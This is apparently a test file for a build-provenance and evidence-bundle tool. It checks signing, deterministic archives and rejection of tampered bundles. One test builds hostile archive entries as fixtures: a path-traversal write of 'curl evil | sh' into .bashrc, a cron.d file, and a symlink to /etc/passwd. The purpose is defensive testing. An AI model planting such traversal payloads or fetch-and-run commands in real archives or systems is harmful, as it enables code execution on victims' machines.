/**
 * The whole pipeline on fixtures/ts-lib: build → sbom → scan (offline) → policy → sign (key) → bundle →
 * verify --evidence and inspect; the archive's determinism; every tamper case with its own reason code.
 */
import assert from 'node:assert/strict'
import { readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { after, before, test } from 'node:test'
import { readEvidenceArchive } from '../../src/evidence/archive.ts'
import type { InspectSummary } from '../../src/evidence/index.ts'
import { DEFAULT_LIMITS } from '../../src/evidence/types.ts'
import { VERSION } from '../../src/version.ts'
import { makeProject, removeProject, TSC_ENV } from '../builder/helpers.ts'
import { type CraftEntry, craftTarGz, runCli, toEntries } from './helpers.ts'

const RECORDS = path.resolve(import.meta.dirname, '../../fixtures/osv/records')
const EMPTY_ROOT = JSON.stringify({
  mediaType: 'application/vnd.dev.sigstore.trustedroot+json;version=0.1',
  tlogs: [],
  ctlogs: [],
  certificateAuthorities: [],
  timestampAuthorities: [],
})
const ENV = { ...TSC_ENV, SOURCE_DATE_EPOCH: '1700000000' }
const EVIDENCE = '.detbuild/evidence.tar.gz'
const TRUST = ['--key', 'k.pub', '--trusted-root', 'root.json', '--insecure-ignore-tlog']

let project: string
let artifact: string
let keyId: string
let genuine: Buffer
let members: Map<string, Buffer>

async function step(args: string[]): Promise<void> {
  const run = await runCli(args, project, ENV)
  assert.ok(run.code === 0, `${args[0]} exited ${run.code}: ${run.stderr}`)
}

before(async () => {
  project = makeProject('ts-lib')
  await step(['build', '--config', 'detbuild.offline.json'])
  await step(['sbom'])
  await step(['scan', '--offline-db', RECORDS])
  await step(['policy'])
  const gen = await runCli(
    ['--json', 'keygen', '--algorithm', 'ed25519', '--output-prefix', 'k'],
    project,
    ENV,
  )
  assert.equal(gen.code, 0, gen.stderr)
  keyId = (gen.json() as { keyId: string }).keyId
  await step(['sign', '--key', 'k.key', '--no-tlog', '--artifacts'])
  await step(['bundle', '--key', 'k.key', '--no-tlog'])
  await writeFile(path.join(project, 'root.json'), EMPTY_ROOT)
  const build = JSON.parse(await readFile(path.join(project, '.detbuild/build.json'), 'utf8'))
  artifact = `.detbuild/${build.outputs[0].path}`
  genuine = await readFile(path.join(project, EVIDENCE))
  members = await readEvidenceArchive(genuine, DEFAULT_LIMITS)
})
after(() => removeProject(project))

interface Verdict {
  code: number
  failure?: string
  failures?: Array<[string, string | undefined]>
}

async function verify(archive: string, extra: string[] = [], target = artifact): Promise<Verdict> {
  const run = await runCli(
    ['--json', 'verify', target, '--evidence', archive, ...TRUST, ...extra],
    project,
    ENV,
  )
  const data = run.json() as {
    failure?: { code: string } | null
    failures?: Array<{ code: string; file?: string }>
    error?: { code: string }
  }
  return {
    code: run.code,
    ...(data.failure || data.error ? { failure: data.failure?.code ?? data.error?.code } : {}),
    ...(data.failures?.length
      ? { failures: data.failures.map((f) => [f.code, f.file] as [string, string | undefined]) }
      : {}),
  }
}

/** Writes a hand-made archive into the project and verifies the artifact against it. */
async function verifyCrafted(entries: CraftEntry[]): Promise<Verdict> {
  await writeFile(path.join(project, 'tampered.tar.gz'), craftTarGz(entries))
  return verify('tampered.tar.gz')
}

const modified = (name: string, data: Buffer): Map<string, Buffer> => new Map(members).set(name, data)

test('round trip: the genuine evidence verifies for the artifact file and for its digests', async () => {
  const run = await runCli(['--json', 'verify', artifact, '--evidence', EVIDENCE, ...TRUST], project, ENV)
  assert.equal(run.code, 0, run.stdout)
  const report = run.json() as Record<string, unknown>
  assert.equal(report.verified, true)
  assert.deepEqual(report.checks, {
    archive: 'pass',
    signature: 'pass',
    files: 'pass',
    artifact: 'pass',
    consistency: 'pass',
    policy: 'skipped',
    rescan: 'skipped',
  })
  assert.deepEqual(report.signer, { type: 'key', keyId })
  const build = JSON.parse(members.get('build.json')!.toString('utf8'))
  const out = build.outputs[0]
  assert.deepEqual(report.artifactMatch, {
    provenanceSubject: path.basename(out.path),
    buildOutput: out.path,
  })
  assert.deepEqual(await verify(EVIDENCE, [], `sha256:${out.sha256}`), { code: 0 })
  assert.deepEqual(await verify(EVIDENCE, [], `sha512:${out.sha512}`), { code: 0 })
  // the human verdict
  const text = await runCli(['verify', artifact, '--evidence', EVIDENCE, ...TRUST], project, ENV)
  assert.equal(text.code, 0)
  assert.match(text.stdout, /^OK /)
})

test('bundle holds the workspace evidence, the applied policy and the artifact digest (not its bytes)', () => {
  const names = [...members.keys()]
  for (const n of [
    'manifest.json',
    'manifest.sigstore.json',
    'build.json',
    'build.log',
    'provenance.intoto.json',
    'provenance.sigstore.json',
    'signatures.json',
    'sbom.cdx.json',
    'vulns.json',
    'vulns.sarif',
    'vulns.md',
    'sbom.vulns.cdx.json',
    'vulns.intoto.json',
    'policy.json',
    'policy.md',
    'applied-policy/default.yaml',
  ])
    assert.ok(names.includes(n), `${n} is in the archive`)
  assert.ok(
    names.some((n) => n.startsWith('artifacts/') && n.endsWith('.sigstore.json')),
    'artifact bundle',
  )
  assert.ok(!names.includes(artifact.slice('.detbuild/'.length)), 'the artifact itself is not included')
  const manifest = JSON.parse(members.get('manifest.json')!.toString('utf8'))
  assert.equal(manifest.sourceDateEpoch, 1700000000)
  assert.equal(manifest.detbuild.version, VERSION)
  assert.equal(manifest.files.length, names.length - 2)
  assert.deepEqual(
    manifest.artifacts.map((a: { path: string; included: boolean }) => [a.path, a.included]),
    [[artifact.slice('.detbuild/'.length), false]],
  )
})

test('determinism: bundling again (Ed25519, no log) gives a byte-identical archive', async () => {
  await step(['bundle', '--key', 'k.key', '--no-tlog', '--output', 'again.tar.gz'])
  const again = await readFile(path.join(project, 'again.tar.gz'))
  assert.ok(again.equals(genuine), 'two bundles are byte-identical')
  // --include-artifacts adds the artifact's bytes, and the result still verifies
  await step(['bundle', '--key', 'k.key', '--no-tlog', '--include-artifacts', '--output', 'with.tar.gz'])
  const withArtifacts = await readEvidenceArchive(
    await readFile(path.join(project, 'with.tar.gz')),
    DEFAULT_LIMITS,
  )
  assert.ok(
    withArtifacts
      .get(artifact.slice('.detbuild/'.length))!
      .equals(await readFile(path.join(project, artifact))),
  )
  assert.deepEqual(await verify('with.tar.gz'), { code: 0 })
})

test('inspect: artifact digests, SBOM size, findings by severity, policy verdict and signers', async () => {
  const run = await runCli(['--json', 'inspect', EVIDENCE], project, ENV)
  assert.equal(run.code, 0, run.stderr)
  const s = run.json() as InspectSummary
  const sbom = JSON.parse(members.get('sbom.cdx.json')!.toString('utf8'))
  const vulns = JSON.parse(members.get('vulns.json')!.toString('utf8'))
  const policy = JSON.parse(members.get('policy.json')!.toString('utf8'))
  const build = JSON.parse(members.get('build.json')!.toString('utf8'))
  assert.equal(s.consistent, true)
  assert.equal(s.sbom?.components, sbom.components.length)
  assert.deepEqual(s.vulnerabilities?.counts, vulns.counts)
  assert.equal(s.policy?.verdict, policy.verdict)
  assert.deepEqual(s.signature.claimedSigner, { type: 'key', keyId })
  assert.deepEqual(
    s.artifacts.map((a: { sha256: string }) => a.sha256),
    build.outputs.map((o: { sha256: string }) => o.sha256),
  )
  assert.ok(s.signatures.some((b: { subject: string }) => b.subject === 'provenance.intoto.json'))
  const text = await runCli(['inspect', EVIDENCE], project, ENV)
  assert.equal(text.code, 0)
  assert.ok(text.stdout.includes(build.outputs[0].sha256))
  assert.match(text.stdout, new RegExp(`policy ${policy.policy.name} .*${policy.verdict.toUpperCase()}`))
})

test('tamper: each bundled file changed is rejected, naming the file', async () => {
  const names = [...members.keys()].filter((n) => n !== 'manifest.json' && n !== 'manifest.sigstore.json')
  assert.ok(names.length >= 14)
  for (const name of names) {
    // a trailing space keeps JSON parseable: the hash check alone must catch it
    const entries = toEntries(modified(name, Buffer.concat([members.get(name)!, Buffer.from(' ')])))
    assert.deepEqual(
      await verifyCrafted(entries),
      { code: 1, failure: 'EVIDENCE_FILE_MODIFIED', failures: [['EVIDENCE_FILE_MODIFIED', name]] },
      name,
    )
  }
})

test('tamper: manifest changed (even with matching hashes), signature changed', async () => {
  // the attacker edits build.json and rewrites its manifest entry to match
  const build = Buffer.from(
    members.get('build.json')!.toString('utf8').replace('"dirty": false', '"dirty": true'),
  )
  assert.ok(!build.equals(members.get('build.json')!))
  const { toManifestFile } = await import('../../src/evidence/manifest.ts')
  const manifest = JSON.parse(members.get('manifest.json')!.toString('utf8'))
  manifest.files = manifest.files.map((f: { path: string }) =>
    f.path === 'build.json' ? toManifestFile('build.json', build) : f,
  )
  const forged = modified('build.json', build).set(
    'manifest.json',
    Buffer.from(`${JSON.stringify(manifest, null, 2)}\n`),
  )
  assert.deepEqual(await verifyCrafted(toEntries(forged)), {
    code: 1,
    failure: 'EVIDENCE_MANIFEST_MODIFIED',
    // the forged build.json is also not the one policy.json judged
    failures: [
      ['EVIDENCE_MANIFEST_MODIFIED', 'manifest.json'],
      ['EVIDENCE_STALE_INPUT', 'policy.json'],
    ],
  })

  const bundle = JSON.parse(members.get('manifest.sigstore.json')!.toString('utf8'))
  const sig = Buffer.from(bundle.messageSignature.signature, 'base64')
  sig[5] = sig[5]! ^ 0xff
  bundle.messageSignature.signature = sig.toString('base64')
  const resigned = modified('manifest.sigstore.json', Buffer.from(JSON.stringify(bundle)))
  assert.deepEqual(await verifyCrafted(toEntries(resigned)), {
    code: 1,
    failure: 'EVIDENCE_SIGNATURE_INVALID',
    failures: [['EVIDENCE_SIGNATURE_INVALID', 'manifest.sigstore.json']],
  })
  const unsigned = new Map(members)
  unsigned.delete('manifest.sigstore.json')
  assert.equal((await verifyCrafted(toEntries(unsigned))).failure, 'EVIDENCE_SIGNATURE_MISSING')
  const noManifest = new Map(members)
  noManifest.delete('manifest.json')
  assert.equal((await verifyCrafted(toEntries(noManifest))).failure, 'EVIDENCE_MANIFEST_MISSING')
})

test('tamper: file added, file removed', async () => {
  assert.deepEqual(await verifyCrafted(toEntries(modified('extra.json', Buffer.from('{}')))), {
    code: 1,
    failure: 'EVIDENCE_FILE_UNLISTED',
    failures: [['EVIDENCE_FILE_UNLISTED', 'extra.json']],
  })
  const removed = new Map(members)
  removed.delete('vulns.json')
  assert.deepEqual(await verifyCrafted(toEntries(removed)), {
    code: 1,
    failure: 'EVIDENCE_FILE_MISSING',
    failures: [['EVIDENCE_FILE_MISSING', 'vulns.json']],
  })
})

test('tamper: path-traversal, symlink, hard-link, duplicate and oversized entries are refused', async () => {
  const all = toEntries(members)
  const cases: Array<[CraftEntry[], string]> = [
    [[...all, { path: '../../.bashrc', data: Buffer.from('curl evil | sh\n') }], 'EVIDENCE_ENTRY_TRAVERSAL'],
    [[...all, { path: '/etc/cron.d/evil', data: Buffer.from('x') }], 'EVIDENCE_ENTRY_ABSOLUTE'],
    [
      [
        ...all.filter((e) => e.path !== 'sbom.cdx.json'),
        { path: 'sbom.cdx.json', type: 'SymbolicLink', linkpath: '/etc/passwd' },
      ],
      'EVIDENCE_ENTRY_SYMLINK',
    ],
    [[...all, { path: 'copy.json', type: 'Link', linkpath: 'build.json' }], 'EVIDENCE_ENTRY_HARDLINK'],
    [[...all, { path: 'build.json', data: Buffer.from('{}') }], 'EVIDENCE_ENTRY_DUPLICATE'],
    [[{ path: 'sbom.cdx.json', size: 300 * 1024 * 1024 }, ...all], 'EVIDENCE_ENTRY_TOO_LARGE'],
    [[...all, { path: 'tty', type: 'CharacterDevice' }], 'EVIDENCE_ENTRY_DEVICE'],
  ]
  for (const [entries, code] of cases) {
    const v = await verifyCrafted(entries)
    assert.equal(v.code, 1, code)
    assert.equal(v.failure, code)
  }
  // inspect reads through the same safe reader
  const run = await runCli(['--json', 'inspect', 'tampered.tar.gz'], project, ENV)
  assert.deepEqual(
    [run.code, (run.json() as { error: { code: string } }).error.code],
    [1, 'EVIDENCE_ENTRY_DEVICE'],
  )
})

test('wrong artifact, wrong key, a keyless policy for a key signature', async () => {
  await writeFile(path.join(project, 'other.tgz'), 'not the artifact')
  const v = await verify(EVIDENCE, [], 'other.tgz')
  assert.deepEqual(v.failures, [
    ['EVIDENCE_ARTIFACT_NOT_IN_BUILD', 'build.json'],
    ['EVIDENCE_ARTIFACT_NOT_IN_PROVENANCE', 'provenance.intoto.json'],
  ])
  assert.equal(v.code, 1)
  assert.equal(
    (await runCli(['keygen', '--algorithm', 'ed25519', '--output-prefix', 'other'], project, ENV)).code,
    0,
  )
  const wrongKey = await runCli(
    [
      '--json',
      'verify',
      artifact,
      '--evidence',
      EVIDENCE,
      '--key',
      'other.pub',
      '--trusted-root',
      'root.json',
      '--insecure-ignore-tlog',
    ],
    project,
    ENV,
  )
  assert.deepEqual(
    [wrongKey.code, (wrongKey.json() as { failure: { code: string } }).failure.code],
    [1, 'EVIDENCE_SIGNATURE_INVALID'],
  )
  const keyless = await runCli(
    [
      '--json',
      'verify',
      artifact,
      '--evidence',
      EVIDENCE,
      '--trusted-root',
      'root.json',
      '--certificate-identity',
      'a@b.c',
      '--certificate-oidc-issuer',
      'https://issuer',
    ],
    project,
    ENV,
  )
  assert.deepEqual(
    [keyless.code, (keyless.json() as { failure: { code: string } }).failure.code],
    [1, 'EVIDENCE_SIGNATURE_KEY_MISMATCH'],
  )
  // without --insecure-ignore-tlog a key signature still needs its log entry
  const tlog = await verify(EVIDENCE, [], artifact)
  assert.equal(tlog.code, 0)
  const strict = await runCli(
    ['--json', 'verify', artifact, '--evidence', EVIDENCE, '--key', 'k.pub', '--trusted-root', 'root.json'],
    project,
    ENV,
  )
  assert.deepEqual(
    [strict.code, (strict.json() as { failure: { code: string } }).failure.code],
    [1, 'EVIDENCE_SIGNATURE_TLOG_MISSING'],
  )
})

test('exit 2: unreadable or malformed archive, bad usage', async () => {
  const code = async (args: string[]) => {
    const run = await runCli(['--json', 'verify', ...args], project, ENV)
    return [run.code, (run.json() as { error?: { code: string } }).error?.code]
  }
  assert.deepEqual(await code([artifact, '--evidence', 'missing.tar.gz', ...TRUST]), [
    2,
    'EVIDENCE_ARCHIVE_UNREADABLE',
  ])
  await writeFile(path.join(project, 'garbage.tar.gz'), 'garbage')
  assert.deepEqual(await code([artifact, '--evidence', 'garbage.tar.gz', ...TRUST]), [
    2,
    'EVIDENCE_ARCHIVE_INVALID',
  ])
  assert.deepEqual(await code([artifact, '--evidence', EVIDENCE, '--bundle', 'x.json', ...TRUST]), [
    2,
    'VERIFY_USAGE',
  ])
  assert.deepEqual(await code([artifact, ...TRUST]), [2, 'VERIFY_USAGE'])
  assert.deepEqual(await code([artifact, '--bundle', 'x.json', '--rescan', ...TRUST]), [2, 'VERIFY_USAGE'])
  assert.deepEqual(await code([artifact, '--evidence', EVIDENCE, '--offline-db', RECORDS, ...TRUST]), [
    2,
    'VERIFY_USAGE',
  ])
  assert.deepEqual(await code([artifact, '--evidence', EVIDENCE]), [2, 'VERIFY_USAGE'])
  assert.deepEqual(await code(['missing.tgz', '--evidence', EVIDENCE, ...TRUST]), [
    2,
    'VERIFY_ARTIFACT_UNREADABLE',
  ])
  const inspect = await runCli(['--json', 'inspect', 'garbage.tar.gz'], project, ENV)
  assert.deepEqual(
    [inspect.code, (inspect.json() as { error: { code: string } }).error.code],
    [2, 'EVIDENCE_ARCHIVE_INVALID'],
  )
})

test('--policy re-evaluates on the bundled data: the bundled verdict again, and a stricter policy fails', async () => {
  // the same policy over the workspace the bundle was made from (signatures.json now exists)
  const { evaluatePolicy, readPolicy, readPolicyInputs, signatureTrust } = await import(
    '../../src/policy/index.ts'
  )
  const { loadTrust } = await import('../../src/verify/trust.ts')
  const { policy, source } = await readPolicy(project, 'default')
  const inputs = await readPolicyInputs({ cwd: project, out: path.join(project, '.detbuild') })
  // with the same trust material: the signing rules verify the bundles, in the workspace and the archive
  const trusted = await loadTrust(
    { key: 'k.pub', trustedRoot: 'root.json', insecureIgnoreTlog: true },
    project,
  )
  const trust = signatureTrust(trusted.request)
  const bundled = evaluatePolicy(policy, inputs, { now: new Date(), source, trust })
  assert.equal(
    bundled.rules.find((r) => r.id === 'signing.provenance')?.status,
    'pass',
    'the signing rules verified the bundles',
  )
  const run = await runCli(
    ['--json', 'verify', artifact, '--evidence', EVIDENCE, ...TRUST, '--policy', 'default'],
    project,
    ENV,
  )
  const report = run.json() as { policy: { verdict: string; counts: unknown }; checks: { policy: string } }
  assert.equal(report.policy.verdict, bundled.verdict)
  assert.deepEqual(report.policy.counts, bundled.counts)
  assert.equal(run.code, bundled.verdict === 'fail' ? 1 : 0)
  const strict = await verify(EVIDENCE, ['--policy', 'strict'])
  assert.equal(strict.code, 1)
  assert.deepEqual(strict.failures, [['EVIDENCE_POLICY_FAILED', undefined]])
})
